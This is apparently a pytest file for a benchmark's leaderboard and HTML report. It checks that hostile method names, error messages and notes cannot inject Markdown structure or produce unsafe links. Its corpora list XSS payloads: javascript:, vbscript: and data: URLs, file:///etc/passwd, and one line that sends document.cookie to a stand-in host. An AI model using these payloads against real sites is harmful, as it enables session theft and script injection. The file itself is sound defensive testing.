"""Hostile text from result files (method names, groups, error messages such as an
OpenAI-compatible server's error body, the dataset note) against ``leaderboard.md`` and the report.

Corpora:
* ``UNSAFE_LINKS``: Markdown links the report's ``inline()`` must not make live (javascript:,
  data:, vbscript:, file:, a control character before the scheme ...); ``SAFE_LINKS`` must stay links;
* ``HOSTILE_NAMES``: method names with a '|', a line break, backticks, that would break a table,
  start a heading or lose their text in the Markdown;
  (``HOSTILE_GROUPS``: those of them that are group names too);
* ``HOSTILE_MESSAGES``: failure messages and fixes with line breaks (and pipes), and
  ``HOSTILE_NOTES``: dataset notes. (A '|' alone in a paragraph breaks nothing, so it is no case.)

The Markdown is checked with markdown-it (CommonMark + GFM tables): its block structure and its
number of lines must be those of the same leaderboard made from benign text, and the hostile text
must come back whole, in its own cell, row or list item.
"""

from __future__ import annotations

import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from bench.views.leaderboard import build_leaderboard
from bench.views.report import build_report
from bench.views.report.html import inline, paragraph
from bench.store.results import method_dir_name, rankings_path, result_path
from bench.engine.runner import RunConfig, run

UNSAFE_LINKS = [
    "[click](javascript:alert(1))",
    "[click](JavaScript:alert(document.domain))",
    "[click](JAVASCRIPT:alert%281%29)",
    "server said: [docs](javascript:fetch('//evil.example/'+document.cookie)) try again",
    "[**bold**](javascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](file:///etc/passwd)",
    "[ok](https://ok.example/) and [bad](javascript:alert(1))",
]
SAFE_LINKS = [
    ("[docs](https://example.com/a?b=1&c=2)", "https://example.com/a?b=1&c=2"),
    ("[docs](http://example.com/)", "http://example.com/"),
    ("[plots](#plots)", "#plots"),
    ("[figure](plots/accuracy_vs_latency.png)", "plots/accuracy_vs_latency.png"),
    ("[page](../methods/random.html)", "../methods/random.html"),
]
HOSTILE_NAMES = [
    "pipe|name",
    "|leading-pipe",
    "back\\|slash-pipe",
    "new\nline",
    "cr\rname",
    "crlf\r\nname",
    "x\n# injected heading",
    "x\n\n## injected after a blank line",
    "x\n| a | b |\n|---|---|",
    "x\n- fake bullet",
    "x\n===",
    "tick`name",
    "``double-tick",
    "`",
]
HOSTILE_GROUPS = [n for n in HOSTILE_NAMES if "`" not in n]   # backticks mean nothing in a heading row
HOSTILE_MESSAGES = [
    "line one\nline two",
    "boom\n# INJECTED heading",
    "boom\n\n## INJECTED after a blank line",
    "boom\n| INJECTED | table |\n|---|---|\n| x | y |",
    "boom\r\n- INJECTED bullet",
    'HTTP 500: {"error": {"message": "bad|request\\nretry", "type": "server_error"}}\n<html>\n# INJECTED</html>',
]
HOSTILE_NOTES = [
    "first line\n# INJECTED heading",
    "note\n\n| INJECTED | table |\n|---|---|",
]

MD = MarkdownIt("commonmark").enable("table")


# -- the results the corpora are written into ------------------------------------------------------

@pytest.fixture(scope="module")
def base_results(tmp_path_factory, toy_dataset) -> Path:
    root = tmp_path_factory.mktemp("adv-report")
    run(toy_dataset, RunConfig(methods=["random", "oracle-text"], protocols=["ood"], results_dir=root / "results",
                               cache_dir=root / "cache", n_boot=20))
    return root / "results"


def _write(results: Path, record: dict, sidecar: Path | None = None) -> None:
    path = result_path(results, record["method"]["name"], record["protocol"]["name"])
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(record))
    if sidecar is not None:
        shutil.copyfile(sidecar, rankings_path(path))


def hostile_results(base: Path, folder: Path, *, name: str = "benign-name", group: str = "custom-group",
                    message: str = "benign message", fix: str = "benign fix", note: str | None = None) -> Path:
    """``base`` plus: an ok result of method ``name`` in group ``group`` (random's numbers), a
    failed result of a method named ``name`` + "-failed" with ``message`` and ``fix``, and
    ``note`` as the dataset note of every result."""
    shutil.copytree(base, folder)
    source = result_path(folder, "random", "ood")
    record = json.loads(source.read_text())
    ok = json.loads(json.dumps(record))
    ok["method"].update(name=name, group=group)
    _write(folder, ok, rankings_path(source))
    failed = json.loads(json.dumps(record))
    failed["method"]["name"] = name + "-failed"
    failed.update(status="failed", metrics=None, rankings_file=None, timings=None,
                  error={"message": message, "fix": fix})
    _write(folder, failed)
    if note is not None:
        for path in folder.glob("*/*.json"):
            data = json.loads(path.read_text())
            data["dataset"]["note"] = note
            path.write_text(json.dumps(data))
    return folder


# -- Markdown: structure and content ---------------------------------------------------------------

def structure(markdown: str) -> list[tuple[str, str]]:
    """The block structure markdown-it reads: every block token's type and tag, no text."""
    return [(t.type, t.tag) for t in MD.parse(markdown) if t.type != "inline"]


def code_spans(markdown: str) -> list[str]:
    return [c.content for t in MD.parse(markdown) if t.type == "inline" for c in (t.children or [])
            if c.type == "code_inline"]


def list_items(markdown: str) -> list[str]:
    """Each list item's text, as read (markup dropped)."""
    tokens, items, depth, current = MD.parse(markdown), [], 0, []
    for t in tokens:
        if t.type == "list_item_open":
            depth, current = depth + 1, []
        elif t.type == "list_item_close":
            depth -= 1
            items.append(" ".join(current))
        elif t.type == "inline" and depth:
            current.append("".join(c.content if c.type in ("text", "code_inline") else " " for c in t.children or []))
    return items


def one_line(text: str) -> str:
    return re.sub(r"[ \t]*[\r\n]+[ \t]*", " ", text)


def _board(base: Path, folder: Path, **hostile) -> str:
    return build_leaderboard(hostile_results(base, folder, **hostile))


@pytest.fixture(scope="module")
def benign_board(base_results, tmp_path_factory) -> str:
    return _board(base_results, tmp_path_factory.mktemp("benign") / "results")


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_method_name_keeps_the_markdown_tables_and_shows_whole(name, base_results, benign_board, tmp_path):
    board = _board(base_results, tmp_path / "results", name=name)
    assert structure(board) == structure(benign_board) and board.count("\n") == benign_board.count("\n")
    spans = code_spans(board)
    assert one_line(name) in spans                       # the name cell
    assert one_line(name + "-failed") in spans           # the "Not in the tables" line


def heading_rows(markdown: str) -> list[str]:
    """The text of each table row that is a group heading (its first cell in emphasis)."""
    tokens = MD.parse(markdown)
    return ["".join(c.content for c in t.children if c.type == "text") for i, t in enumerate(tokens)
            if t.type == "inline" and tokens[i - 1].type == "td_open" and tokens[i - 2].type == "tr_open"
            and t.children and t.children[0].type == "em_open"]


@pytest.mark.parametrize("group", HOSTILE_GROUPS)
def test_a_hostile_group_name_stays_one_heading_row(group, base_results, benign_board, tmp_path):
    board = _board(base_results, tmp_path / "results", group=group)
    assert structure(board) == structure(benign_board) and board.count("\n") == benign_board.count("\n")
    assert one_line(group) in heading_rows(board)


@pytest.mark.parametrize("message", HOSTILE_MESSAGES)
def test_a_hostile_failure_message_stays_in_its_list_item(message, base_results, benign_board, tmp_path):
    board = _board(base_results, tmp_path / "results", message=message, fix=message)
    assert structure(board) == structure(benign_board) and board.count("\n") == benign_board.count("\n")
    item = next(i for i in list_items(board) if "benign-name-failed" in i)
    for word in re.findall(r"[A-Za-z]{4,}", message):    # everything the message says, in that item
        assert word in item, (word, item)
    assert "|" not in message or "|" in item and "\\|" not in item


@pytest.mark.parametrize("note", HOSTILE_NOTES)
def test_a_hostile_dataset_note_stays_in_its_paragraph(note, base_results, tmp_path_factory, tmp_path):
    benign = _board(base_results, tmp_path_factory.mktemp("benign-note") / "results", note="benign note")
    board = _board(base_results, tmp_path / "results", note=note)
    assert structure(board) == structure(benign) and board.count("\n") == benign.count("\n")
    paragraphs = [t.content for t in MD.parse(board) if t.type == "inline" and t.content.startswith("Dataset:")]
    assert len(paragraphs) == 1
    for word in re.findall(r"[A-Za-z]{4,}", note):
        assert word in paragraphs[0]


# -- the report: links -----------------------------------------------------------------------------

class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.hrefs: list[str] = []

    def handle_starttag(self, tag, attrs):
        # What a click or a load follows (the page shell's own '<link rel="icon" href="data:,">' aside).
        self.hrefs += [value or "" for key, value in attrs
                       if key in ("src", "action", "formaction") or (key == "href" and tag != "link")]


def browser_scheme(url: str) -> str | None:
    """The scheme a browser reads from an attribute's (decoded) URL: C0 controls and spaces around
    it dropped, tabs and newlines inside it removed."""
    url = re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(0x21)))))
    found = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", url)
    return found.group(1).lower() if found else None


def unsafe_links(document: str) -> list[str]:
    parser = _Links()
    parser.feed(document)
    return [h for h in parser.hrefs if browser_scheme(h) not in (None, "http", "https")]


@pytest.mark.parametrize("text", UNSAFE_LINKS)
def test_inline_never_makes_an_unsafe_link(text):
    for rendered in (inline(text), paragraph(text), paragraph(f"Lead:\n- {text}")):
        assert not unsafe_links(rendered), rendered
    assert "click" in inline(text) or "docs" in inline(text) or "bold" in inline(text) or "bad" in inline(text)


@pytest.mark.parametrize("text,href", SAFE_LINKS)
def test_inline_keeps_http_relative_and_fragment_links(text, href):
    parser = _Links()
    parser.feed(inline(text))
    assert parser.hrefs == [href]


@pytest.mark.parametrize("text", UNSAFE_LINKS)
def test_the_report_makes_no_unsafe_link_from_a_message_a_group_or_the_note(text, base_results, toy_dataset,
                                                                            tmp_path):
    results = hostile_results(base_results, tmp_path / "results", group=text, message=text, fix=text, note=text)
    build_report(results, toy_dataset, tmp_path / "site", asset_cache=tmp_path / "no-fonts")
    index = (tmp_path / "site" / "index.html").read_text()
    assert "custom-group" not in index and "benign message" not in index   # the hostile text is what is shown
    for page in (tmp_path / "site").rglob("*.html"):
        assert not unsafe_links(page.read_text()), page


def test_the_report_still_links_safe_urls_from_data(base_results, toy_dataset, tmp_path):
    text = " ".join(t for t, _ in SAFE_LINKS)
    results = hostile_results(base_results, tmp_path / "results", message=text, note="see [docs](https://example.com/)")
    build_report(results, toy_dataset, tmp_path / "site", asset_cache=tmp_path / "no-fonts")
    parser = _Links()
    parser.feed((tmp_path / "site" / "index.html").read_text())
    assert {h for _, h in SAFE_LINKS} | {"https://example.com/"} <= set(parser.hrefs)


def test_pipes_escaped_for_markdown_show_plainly_in_the_report(base_results, toy_dataset, tmp_path):
    results = hostile_results(base_results, tmp_path / "results", name="a|b", message="x | y\n# z",
                              note="p | q")
    build_report(results, toy_dataset, tmp_path / "site", asset_cache=tmp_path / "no-fonts")
    index = (tmp_path / "site" / "index.html").read_text()
    assert "x | y # z" in index and "p | q" in index and "\\|" not in index
    assert ">a|b<" in index and method_dir_name("a|b") in index


# -- the same in Chromium: the browser's own URL parser, and clicks ------------------------------

@pytest.fixture(scope="module")
def chromium():
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (pip install -e '.[dev]')")
    executable = shutil.which("chromium") or shutil.which("chromium-browser")
    if executable is None:
        pytest.skip("Debian's chromium is not installed (apt-get install chromium; the README's test command does)")
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=executable, args=["--no-sandbox"])
        yield browser
        browser.close()


def test_no_link_in_the_report_runs_script_in_chromium(base_results, toy_dataset, tmp_path, chromium):
    """Every corpus entry as the message of its own failed result, and as a group and the note:
    Chromium parses each link of the index as http(s) (relative ones against an https base), and
    clicking every link that is not runs no script (no alert)."""
    results = hostile_results(base_results, tmp_path / "results", group=UNSAFE_LINKS[0], note=UNSAFE_LINKS[1])
    record = json.loads(result_path(results, "benign-name-failed", "ood").read_text())
    for i, text in enumerate(UNSAFE_LINKS):
        record["method"]["name"] = f"failing-{i}"
        record["error"] = {"message": text}
        _write(results, record)
    build_report(results, toy_dataset, tmp_path / "site", asset_cache=tmp_path / "no-fonts")
    page = chromium.new_page()
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto((tmp_path / "site" / "index.html").resolve().as_uri())
    assert page.locator("text=failing-0").count() >= 1
    protocols = page.eval_on_selector_all(
        "a[href]", "els => els.map(a => [a.getAttribute('href'), new URL(a.getAttribute('href'), "
                   "'https://base.invalid/').protocol])")
    unsafe = [href for href, protocol in protocols if protocol not in ("http:", "https:")]
    for i in range(len(unsafe)):
        page.eval_on_selector_all("a[href]", "(els, i) => els.filter(a => !['http:', 'https:'].includes("
                                  "new URL(a.getAttribute('href'), 'https://base.invalid/').protocol))[i].click()", i)
        page.wait_for_timeout(50)
    assert not unsafe and not dialogs, (unsafe, dialogs)
